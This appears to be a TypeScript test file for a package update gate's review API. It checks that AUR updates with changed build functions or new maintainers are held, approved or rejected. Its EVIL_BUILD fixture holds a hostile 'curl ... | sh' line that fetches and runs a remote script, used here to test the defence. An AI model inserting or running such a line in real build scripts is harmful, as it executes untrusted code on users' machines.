/**
 * The review API of the update gate over HTTP: a real server (the harness: SQLite store, instant
 * runner, filesystem repository) against the AUR stand-in (RPC on 127.0.0.1 and real git
 * repositories over `git http-backend`; it fakes the public AUR, which tests cannot reach).
 */
import * as http from 'node:http';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { HeldUpdateJson, HeldUpdateReview, PackagePolicy } from './schemas.js';
import { type Harness, SECRET, startHarness } from './testing/harness.js';

const PLAIN_BUILD = 'build() {\n  make\n}';
const EVIL_BUILD = 'build() {\n  make\n  curl -s https://example.invalid/p | sh\n}';

let h: Harness;

beforeAll(async () => {
  h = await startHarness({
    packages: [
      { base: 'tool', pkgver: '1.0', functions: PLAIN_BUILD },
      { base: 'bump', pkgver: '1.0' },
      { base: 'owned', pkgver: '1.0', maintainer: 'alice' },
      { base: 'shady', pkgver: '1.0' },
    ],
    gate: { review: 'diff', trust: true, blockedPackages: ['shady'] },
  });
  for (const name of ['tool', 'bump', 'owned']) {
    const reply = await h.ask('/package/add', {
      method: 'POST',
      body: { source: { type: 'aur', name }, replace: false },
    });
    expect(reply.status, reply.text).toBe(200);
  }
  await h.orchestrator.idle();
});
afterAll(async () => {
  await h?.close();
});

/** A manual, not forced build request of packages, waited for: the update check the gate runs in. */
async function check(...packages: string[]): Promise<void> {
  const reply = await h.ask('/build', {
    method: 'POST',
    body: { packages, clean: false, resolve: true, force: false },
  });
  expect(reply.status, reply.text).toBe(200);
  await h.orchestrator.idle();
}

async function version(name: string): Promise<string | undefined> {
  return (await h.publisher.list()).find((entry) => entry.name === name)?.version;
}

/** Opens the live log of a package and resolves with everything read once `until` appears in it. */
function liveLog(base: string, until: string): { ready: Promise<void>; text: Promise<string> } {
  let ready: () => void = () => {};
  const opened = new Promise<void>((resolve) => {
    ready = resolve;
  });
  const text = new Promise<string>((resolve, reject) => {
    const req = http.get(
      {
        host: '127.0.0.1',
        port: h.port,
        path: `/package/${base}/build/logs/subscribe`,
        headers: { Authorization: SECRET },
        agent: false,
      },
      (res) => {
        let body = '';
        ready();
        res.setEncoding('utf8');
        res.on('data', (chunk: string) => {
          body += chunk;
          if (body.includes(until)) {
            req.destroy();
            resolve(body);
          }
        });
      },
    );
    req.on('error', (error) => {
      if ((error as NodeJS.ErrnoException).code !== 'ECONNRESET') reject(error);
    });
    setTimeout(() => {
      req.destroy();
      reject(new Error(`live log of ${base} never said ${until}`));
    }, 20_000).unref();
  });
  return { ready: opened, text };
}

describe('review API', { timeout: 240_000 }, () => {
  it('lets a version bump through and holds a changed build(), telling live log subscribers', async () => {
    await h.aur.bump('bump', { pkgver: '1.1' });
    await h.aur.bump('tool', { pkgver: '1.1', functions: EVIL_BUILD });
    const live = liveLog('tool', 'held for review');
    await live.ready;
    await check('bump', 'tool');
    expect(await version('bump')).toBe('1.1-1');
    expect(await version('tool')).toBe('1.0-1');
    const text = await live.text;
    expect(text).toContain('event: log');
    expect(text).toContain('==> serene update gate: update to 1.1-1');

    const list = await h.ask('/review');
    expect(list.status).toBe(200);
    const held = list.json as HeldUpdateJson[];
    expect(held.map((item) => item.base)).toEqual(['tool']);
    expect(held[0]?.revision).toBe(await h.aur.materialize('tool'));
    expect(held[0]?.reasons[0]?.kind).toBe('diff');
    expect(held[0]?.policy).toEqual({ cool_off: '0', trust: true, review: 'diff' });

    const one = await h.ask('/review/tool');
    expect(one.status).toBe(200);
    expect((one.json as HeldUpdateReview).diff).toContain('+  curl -s https://example.invalid/p | sh');

    // a late subscriber reads the held update first
    const late = liveLog('tool', 'held for review');
    expect(await late.text).toContain('diff: more than a version bump');
  });

  it('answers bad review input: unknown package, nothing held, stale or malformed revision, missing secret', async () => {
    const held = ((await h.ask('/review')).json as HeldUpdateJson[]).find((item) => item.base === 'tool')!;
    const approve = (base: string, body: unknown, secret?: string | null) =>
      h.ask(`/review/${base}/approve`, { method: 'POST', body, ...(secret === undefined ? {} : { secret }) });

    expect((await approve('nope', { revision: held.revision })).status).toBe(404);
    expect((await h.ask('/review/nope')).status).toBe(404);
    const nothing = await h.ask('/review/bump');
    expect(nothing.status).toBe(404);
    expect(nothing.text).toBe('no update of package bump is held');
    const missing = await approve('tool', { revision: held.revision }, null);
    expect(missing.status).toBe(401);
    expect((await h.ask('/review', { secret: null })).status).toBe(401);
    expect((await approve('tool', { revision: 'HEAD~1' })).status).toBe(400);
    expect((await approve('tool', {})).status).toBe(400);

    // the package moves on: the reviewed revision is stale, nothing is approved
    await h.aur.bump('tool', { pkgver: '1.2', functions: EVIL_BUILD });
    await check('tool');
    const stale = await approve('tool', { revision: held.revision });
    expect(stale.status).toBe(409);
    expect(stale.text).toContain('1.2-1');
    expect(
      (await h.ask(`/review/tool/reject`, { method: 'POST', body: { revision: held.revision } })).status,
    ).toBe(409);
    expect(await version('tool')).toBe('1.0-1');
  });

  it('approves the reviewed revision and builds exactly it while a newer push waits', async () => {
    const held = ((await h.ask('/review')).json as HeldUpdateJson[]).find((item) => item.base === 'tool')!;
    expect(held.version).toBe('1.2-1');
    await h.aur.bump('tool', { pkgver: '1.3', functions: `${EVIL_BUILD}\ncheck() {\n  true\n}` });
    const reply = await h.ask('/review/tool/approve', { method: 'POST', body: { revision: held.revision } });
    expect(reply.status, reply.text).toBe(200);
    expect(reply.json).toEqual({ base: 'tool', revision: held.revision });
    await h.orchestrator.idle();
    expect(await version('tool')).toBe('1.2-1');
    expect((await h.ask('/review')).json).toEqual([]);

    // the newer push is checked against the approved revision and held for its check()
    await check('tool');
    const next = ((await h.ask('/review')).json as HeldUpdateJson[])[0];
    expect(next?.version).toBe('1.3-1');
    expect(next?.base_revision).toBe(held.revision);
    expect(next?.reasons[0]?.message).toContain('check()');
    const rejected = await h.ask('/review/tool/reject', {
      method: 'POST',
      body: { revision: next!.revision.slice(0, 10) },
    });
    expect(rejected.status).toBe(200);
    await check('tool');
    expect((await h.ask('/review')).json).toEqual([]);
    expect(await version('tool')).toBe('1.2-1');
  });

  it('sets and shows per-package policy through /package/{name}/set with new keys, refusing bad values', async () => {
    const set = (body: unknown) => h.ask('/package/owned/set', { method: 'POST', body });
    expect((await set({ key: 'cooloff', value: '36h' })).status).toBe(200);
    expect((await set({ key: 'review', value: 'all' })).status).toBe(200);
    expect((await set({ key: 'trust', value: false })).status).toBe(200);
    const policyReply = await h.ask('/package/owned/policy');
    expect(policyReply.status, policyReply.text).toBe(200);
    const policy = policyReply.json as PackagePolicy;
    expect(policy).toEqual({
      effective: { cool_off: '36h', trust: false, review: 'all' },
      overrides: { cool_off: '36h', trust: false, review: 'all' },
      inherits_from: null,
      accepted_revision: await h.aur.materialize('owned'),
      trust: {
        maintainer: 'alice',
        co_maintainers: [],
        submitter: 'alice',
        packagers: ['Serene Test <test@serene.invalid>'],
      },
    });
    expect((await set({ key: 'cooloff', value: 'tomorrow' })).status).toBe(400);
    expect((await set({ key: 'review', value: 'sometimes' })).status).toBe(400);
    for (const key of ['cooloff', 'review', 'trust'])
      expect((await set({ key, value: null })).status).toBe(200);
    expect(((await h.ask('/package/owned/policy')).json as PackagePolicy).effective).toEqual({
      cool_off: '0',
      trust: true,
      review: 'diff',
    });
    expect((await h.ask('/package/nope/policy')).status).toBe(404);
  });

  it('holds a maintainer change and refuses to add a blocked package with 403', async () => {
    h.aur.setMeta('owned', { maintainer: 'mallory' });
    await h.aur.bump('owned', { pkgver: '1.1' });
    await check('owned');
    const held = ((await h.ask('/review')).json as HeldUpdateJson[]).find((item) => item.base === 'owned');
    expect(held?.reasons).toEqual([
      { kind: 'maintainer', message: 'the maintainer changed from alice to mallory' },
    ]);
    expect(held?.trust.maintainer).toBe('mallory');
    const blocked = await h.ask('/package/add', {
      method: 'POST',
      body: { source: { type: 'aur', name: 'shady' }, replace: false },
    });
    expect(blocked.status).toBe(403);
    expect(blocked.text).toContain("shady is on the server's block list");
  });

  it('documents the review routes in the OpenAPI document', async () => {
    const doc = (await h.ask('/openapi.json')).json as { paths: Record<string, unknown> };
    expect(Object.keys(doc.paths)).toEqual(
      expect.arrayContaining([
        '/review',
        '/review/{name}',
        '/review/{name}/approve',
        '/review/{name}/reject',
        '/package/{name}/policy',
      ]),
    );
  });
});
